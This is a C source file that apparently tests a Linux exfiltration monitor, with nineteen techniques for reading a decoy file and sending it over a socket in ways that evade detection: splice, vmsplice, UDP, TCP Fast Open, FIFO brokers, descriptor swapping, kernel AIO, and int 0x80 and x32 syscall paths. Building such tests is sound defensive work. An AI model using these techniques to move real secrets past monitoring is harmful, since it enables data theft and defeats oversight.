// SPDX-License-Identifier: GPL-2.0-or-later
/* The decoy is opened the plain way; how it leaves isn't plain. */
#include "int80.h"
#include <linux/aio_abi.h>
#include <linux/sockios.h>
#include <sys/ioctl.h>
#include <sys/uio.h>

#define X32 0x40000000

static void sendfile_out(void)
{
	int fd = must(open(at(DECOY), O_RDONLY), "open");

	must(sendfile(dial(), fd, NULL, ROOM), "sendfile");
}

static void splice_out(void)
{
	int fd = must(open(at(DECOY), O_RDONLY), "open"), p[2];
	long len;

	must(pipe(p), "pipe");
	len = must(splice(fd, NULL, p[1], NULL, ROOM, 0), "splice from the file");
	must(splice(p[0], NULL, dial(), NULL, len, 0), "splice to the socket");
}

static void copied_then_sent(void)
{
	int from = must(open(at(DECOY), O_RDONLY), "open"), to;
	struct stat st;

	to = must(open(own("work"), O_CREAT | O_RDWR | O_CLOEXEC, 0600), "create");
	must(fstat(from, &st), "fstat");
	must(copy_file_range(from, NULL, to, NULL, st.st_size, 0), "copy_file_range");
	close(from);
	must(lseek(to, 0, SEEK_SET), "lseek");
	carry_away(to);
}

/* The socket is connected before anything is read, so that only the sending can tell. */
static void connected_before(void)
{
	int out = dial();
	char data[ROOM];

	must(send(out, data, take(must(open(at(DECOY), O_RDONLY), "open"), data), 0), "send");
}

static void sendmmsg_on_connected(void)
{
	int out = dial();
	char data[ROOM];
	struct iovec iov = {data, take(must(open(at(DECOY), O_RDONLY), "open"), data)};
	struct mmsghdr msg = {.msg_hdr = {.msg_iov = &iov, .msg_iovlen = 1}};

	must(sendmmsg(out, &msg, 1, 0), "sendmmsg");
}

static void vmspliced(void)
{
	int out = dial(), p[2];
	char data[ROOM];
	struct iovec iov = {data, take(must(open(at(DECOY), O_RDONLY), "open"), data)};

	must(pipe(p), "pipe");
	must(vmsplice(p[1], &iov, 1, 0), "vmsplice");
	must(splice(p[0], NULL, out, NULL, iov.iov_len, 0), "splice");
}

static void datagram(void)
{
	struct sockaddr_in to = collector();
	char data[ROOM];
	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);

	must(sendto(must(socket(AF_INET, SOCK_DGRAM, 0), "socket"), data, len, 0, (void *)&to, sizeof(to)), "sendto");
}

static void datagrams_by_sendmmsg(void)
{
	struct sockaddr_in to = collector();
	char data[ROOM];
	struct iovec iov = {data, take(must(open(at(DECOY), O_RDONLY), "open"), data)};
	struct mmsghdr msg = {
		.msg_hdr = {.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov, .msg_iovlen = 1}};

	must(sendmmsg(must(socket(AF_INET, SOCK_DGRAM, 0), "socket"), &msg, 1, 0), "sendmmsg");
}

static void fast_open(void)
{
	struct sockaddr_in to = collector();
	char data[ROOM];
	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);
	int out = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(sendto(out, data, len, MSG_FASTOPEN, (void *)&to, sizeof(to)), "sendto with MSG_FASTOPEN");
}

static void fetched_from_us(void)
{
	struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
	socklen_t len = sizeof(here);
	int door = must(socket(AF_INET, SOCK_STREAM, 0), "socket"), out;
	char data[ROOM];
	size_t size;

	must(bind(door, (void *)&here, len), "bind");
	must(listen(door, 1), "listen");
	must(getsockname(door, (void *)&here, &len), "getsockname");
	size = take(must(open(at(DECOY), O_RDONLY), "open"), data);
	report("listen %d\n", ntohs(here.sin_port));
	out = must(accept(door, NULL, NULL), "accept");
	must(write(out, data, size), "write");
}

/* A process of nobody's kin, which passes on what comes through a FIFO. */
static void through_a_broker(void)
{
	char *fifo = own("work"), data[ROOM];
	pid_t pid;
	int out;

	must(mkfifo(fifo, 0600), "mkfifo");
	pid = branch();
	if (!pid) { /* the one who reads: no ancestor of the broker, and of another session */
		must(setsid(), "setsid");
		size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);

		out = must(open(fifo, O_WRONLY), "open a FIFO");
		must(write(out, data, len), "write to a FIFO");
		_exit(0);
	}
	carry_away(must(open(fifo, O_RDONLY), "open a FIFO"));
	await(pid);
}

/* The secret goes out, the rest of the buffer doesn't fit; meanwhile another thread puts /dev/null in the socket's
 * place. */
static int blocked_fd, harmless_fd;
static pthread_t writer;

static void *swap_descriptor(void *unused)
{
	int queued = 0, before;

	do { /* until the buffers are full: nothing comes to them any more */
		before = queued;
		nap_ms(20);
		must(ioctl(blocked_fd, SIOCOUTQ, &queued), "SIOCOUTQ");
	} while (!queued || queued != before);
	must(dup2(harmless_fd, blocked_fd), "dup2");
	pthread_kill(writer, SIGUSR1);
	return unused;
}

static void no_action(int number)
{
	(void)number;
}

static void descriptor_swapped(void)
{
	size_t size = 64 << 20;
	char *data = calloc(1, size);
	struct sigaction action = {.sa_handler = no_action}; /* without SA_RESTART */
	pthread_t thread;

	blocked_fd = dial();
	harmless_fd = must(open("/dev/null", O_WRONLY), "open");
	writer = pthread_self();
	must(sigaction(SIGUSR1, &action, NULL), "sigaction");
	take(must(open(at(DECOY), O_RDONLY), "open"), data);
	must(-pthread_create(&thread, NULL, swap_descriptor, NULL), "pthread_create");
	must(write(blocked_fd, data, size), "write");
	pthread_join(thread, NULL);
}

static void pwritev2_out(void)
{
	int out = dial();
	char data[ROOM];
	struct iovec iov = {data, take(must(open(at(DECOY), O_RDONLY), "open"), data)};

	must(pwritev2(out, &iov, 1, -1, 0), "pwritev2");
}

static void kernel_aio(void)
{
	char data[ROOM];
	int out = dial();
	struct iocb operation = {
		.aio_lio_opcode = IOCB_CMD_PWRITE,
		.aio_fildes = (uint32_t)out,
		.aio_buf = (uintptr_t)data,
		.aio_nbytes = take(must(open(at(DECOY), O_RDONLY), "open"), data),
	};
	struct iocb *operations[] = {&operation};
	struct io_event event;
	aio_context_t context = 0;

	must(syscall(SYS_io_setup, 1, &context), "io_setup");
	must(syscall(SYS_io_submit, context, 1, operations), "io_submit");
	must(syscall(SYS_io_getevents, context, 1, 1, &event, NULL), "io_getevents");
}

static void int80_open(void)
{
	carry_away(must(int80(I386_OPEN, low(at(DECOY)), O_RDONLY, 0, 0), "int 0x80 open"));
}

static void int80_connect(void)
{
	struct sockaddr_in to = collector();
	char data[ROOM];
	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);
	int out = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(int80(I386_CONNECT, out, (long)low_copy(&to, sizeof(to)), sizeof(to), 0), "int 0x80 connect");
	must(write(out, data, len), "write");
}

static void int80_socketcall(void)
{
	struct sockaddr_in to = collector();
	char data[ROOM];
	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);
	int out = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
	uint32_t args[3] = {(uint32_t)out, (uint32_t)(uintptr_t)low_copy(&to, sizeof(to)), sizeof(to)};

	must(int80(I386_SOCKETCALL, 3, (long)low_copy(args, sizeof(args)), 0, 0), "int 0x80 socketcall");
	must(write(out, data, len), "write");
}

static void int80_send(void)
{
	int out = dial();
	char data[ROOM];
	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);
	uint32_t args[4] = {(uint32_t)out, (uint32_t)(uintptr_t)low_copy(data, len), (uint32_t)len, 0};

	must(int80(I386_SOCKETCALL, 9, (long)low_copy(args, sizeof(args)), 0, 0), "int 0x80 socketcall(SYS_SEND)");
}

static void x32_open(void)
{
	carry_away(must(syscall(X32 | SYS_open, at(DECOY), O_RDONLY), "x32 open"));
}

static const struct trick tricks[] = {
	TRICK(sendfile_out),
	TRICK(splice_out),
	TRICK(copied_then_sent),
	TRICK(connected_before),
	TRICK(sendmmsg_on_connected),
	TRICK(vmspliced),
	TRICK(datagram),
	TRICK(datagrams_by_sendmmsg),
	TRICK(fast_open),
	TRICK(fetched_from_us),
	TRICK(through_a_broker),
	TRICK(descriptor_swapped),
	TRICK(pwritev2_out),
	TRICK(kernel_aio),
	TRICK(int80_open),
	TRICK(int80_connect),
	TRICK(int80_socketcall),
	TRICK(int80_send),
	TRICK(x32_open),
};

int main(int argc, char **argv)
{
	return RUN(tricks, argc, argv);
}
